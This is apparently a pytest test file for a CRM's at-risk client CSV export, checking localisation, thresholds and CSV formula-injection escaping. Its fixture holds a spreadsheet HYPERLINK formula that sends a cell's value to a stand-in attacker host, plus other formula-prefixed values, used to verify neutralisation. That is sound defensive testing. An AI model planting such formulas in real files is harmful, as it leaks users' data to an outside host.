"""At-risk export: the rows of analytics.at_risk, headers/values per language, CSV bytes safe for Excel."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest

from crm_core.analytics import at_risk, client_health
from crm_core.cli import main
from crm_core.db import get_engine
from crm_core.io.at_risk import to_csv_bytes
from crm_core.io.csv_safety import FORMULA_PREFIXES
from crm_core.store.frames import load_frames
from crm_core.views.at_risk import EXPORT_COLUMNS, at_risk_export, headers
from tests.frames_builder import d, frames

AS_OF = date(2026, 11, 25)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BOM = b"\xef\xbb\xbf"


def _invoice(invoice_id: int, client_id: int, issued: str, due: str, total: float) -> dict:
    return {
        "invoice_id": invoice_id,
        "client_id": client_id,
        "number": f"F{invoice_id}",
        "issue_date": d(issued),
        "due_date": d(due),
        "total": total,
    }


def _book():
    """Three clients: a formula-laden defaulter, a punctual monthly client, a late payer with a CSV-hostile name."""
    clients = [
        {
            "client_id": 1,
            "company_name": HYPERLINK,
            "tax_id": "@B12345674",
            "email": "-x@evil.example",
            "phone": "+34 600 000 001",
            "owner": "\tana",
        },
        {
            "client_id": 2,
            "company_name": "Puntual SL",
            "tax_id": "B00000000",
            "email": "ok@puntual.es",
            "phone": "600 000 002",
            "owner": "luis",
        },
        {
            "client_id": 3,
            "company_name": 'Comas, "Comillas"; y punto',
            "tax_id": "B11111111",
            "email": "late@example.com",
            "phone": "600 000 003",
            "owner": "luis",
        },
    ]
    invoices = [
        # Client 1: 1,210.50 issued 1 Jun, due 1 Jul, never paid: 147 days overdue on 25 Nov -> critical.
        _invoice(1, 1, "2026-06-01", "2026-07-01", 1210.50),
        # Client 3: 500 issued 11 Sep, due 11 Oct, unpaid: 45 days overdue -> high.
        _invoice(30, 3, "2026-09-11", "2026-10-11", 500.0),
    ]
    payments = []
    # Client 2: an invoice every month of 2026, each paid on its issue day.
    for month in range(1, 12):
        issued = f"2026-{month:02d}-05"
        invoices.append(_invoice(100 + month, 2, issued, issued, 300.0))
        payments.append({"payment_id": month, "invoice_id": 100 + month, "paid_on": d(issued), "amount": 300.0})
    activities = [
        {"activity_id": 1, "client_id": 2, "kind": "call", "occurred_at": d("2026-11-20")},
        {"activity_id": 2, "client_id": 3, "kind": "call", "occurred_at": d("2026-11-01")},
    ]
    return frames(clients=clients, invoices=invoices, payments=payments, activities=activities)


@pytest.fixture(scope="module")
def health() -> pd.DataFrame:
    return client_health(_book(), AS_OF)


def _parse(data: bytes, sep: str) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline=""), delimiter=sep))


def test_export_holds_the_at_risk_clients_most_severe_first(health):
    frame = at_risk_export(health, "en")
    assert list(frame.index) == list(at_risk(health).index) == [1, 3]
    assert list(frame.columns) == [headers("en")[column] for column, _ in EXPORT_COLUMNS]
    row = frame.loc[1]
    assert row["Default risk"] == "Critical"
    assert row["Overdue (EUR)"] == pytest.approx(1210.50)
    assert row["Oldest unpaid invoice"] == pd.Timestamp("2026-06-01")
    assert row["Suggested action"] == "Escalate collection: an invoice is more than 90 days overdue."
    assert frame.loc[3, "Default risk"] == "High"
    assert frame.loc[3, "Days since last activity"] == 24  # 25 Nov - 1 Nov
    # what each client is worth from now on, beside what it already brought
    assert frame["Predicted value next 12 months (EUR)"].tolist() == pytest.approx(
        health.loc[[1, 3], "predicted_value_12m"].round(2).tolist()
    )
    assert at_risk_export(health, "es").columns[-2] == "Valor previsto próximos 12 meses (EUR)"


def test_thresholds_change_the_rows(health):
    # Only critical risk, churn threshold out of reach: client 3 (high) drops out.
    assert list(at_risk_export(health, "en", churn_min=101, risk_levels=("critical",)).index) == [1]
    # An overdue threshold alone brings client 3 back (500 overdue).
    assert list(at_risk_export(health, "en", churn_min=101, risk_levels=(), overdue_min=400).index) == [1, 3]


@pytest.mark.parametrize(("sep", "lang"), [(",", "en"), (";", "es")])
def test_csv_parses_back_with_bom_and_no_formula_cells(health, sep, lang):
    frame = at_risk_export(health, lang)
    rows = _parse(to_csv_bytes(frame, sep, lang), sep)
    assert rows[0] == list(headers(lang).values())
    body = rows[1:]
    assert len(body) == 2
    assert all(len(row) == len(EXPORT_COLUMNS) for row in body)
    first, second = ({name: cell for name, cell in zip(rows[0], row, strict=True)} for row in body)
    h = headers(lang)
    assert first[h["company_name"]] == "'" + HYPERLINK
    assert first[h["phone"]] == "+34 600 000 001"  # issue 16: a phone number is no formula, no apostrophe
    assert first[h["email"]] == "'-x@evil.example"
    assert first[h["tax_id"]] == "'@B12345674"
    assert first[h["owner"]] == "'\tana"
    assert second[h["company_name"]] == 'Comas, "Comillas"; y punto'
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or cell == "+34 600 000 001", cell
    # issue 16: churn as the page shows it (a whole number), money always with two decimals
    assert first[h["churn_score"]] == str(round(health.loc[1, "churn_score"]))


def test_spanish_semicolon_export_uses_decimal_comma_and_spanish_texts(health):
    rows = _parse(to_csv_bytes(at_risk_export(health, "es"), ";", "es"), ";")
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert "Empresa" in header and "Acción sugerida" in header
    assert first["Vencido (EUR)"] == "1210,50"  # issue 16: was 1210,5
    assert first["Factura impagada más antigua"] == "01/06/2026"
    assert first["Riesgo de impago"] == "Crítico"
    assert first["Acción sugerida"] == "Escalar el cobro: hay una factura vencida hace más de 90 días."


def test_english_comma_export_uses_iso_dates_and_decimal_point(health):
    rows = _parse(to_csv_bytes(at_risk_export(health, "en"), ",", "en"), ",")
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Overdue (EUR)"] == "1210.50"
    assert first["Oldest unpaid invoice"] == "2026-06-01"


def test_empty_selection_gives_headers_only(health):
    frame = at_risk_export(health, "en", churn_min=101, risk_levels=())
    assert frame.empty
    assert _parse(to_csv_bytes(frame, ","), ",") == [list(headers("en").values())]


def test_unknown_separator_is_refused(health):
    with pytest.raises(ValueError, match="separator"):
        to_csv_bytes(at_risk_export(health, "en"), "|")


def test_cli_writes_the_same_export(demo_db, tmp_path):
    out = tmp_path / "at_risk.csv"
    assert (
        main(["export-at-risk", "--out", str(out), "--as-of", "2026-11-25", "--sep", ";", "--lang", "es", "--url", demo_db]) == 0
    )
    expected = at_risk_export(client_health(load_frames(get_engine(demo_db)), AS_OF), "es")
    assert len(expected) > 0
    assert out.read_bytes() == to_csv_bytes(expected, ";", "es")
    rows = _parse(out.read_bytes(), ";")
    assert [row[0] for row in rows[1:]] == [
        "'" + name if name.startswith(FORMULA_PREFIXES) else name for name in expected["Empresa"]
    ]


def test_overdue_total_sums_the_listed_clients(health):
    from crm_core.views.at_risk import overdue_total

    assert overdue_total(at_risk_export(health, "es"), "es") == pytest.approx(1210.50 + 500.0)
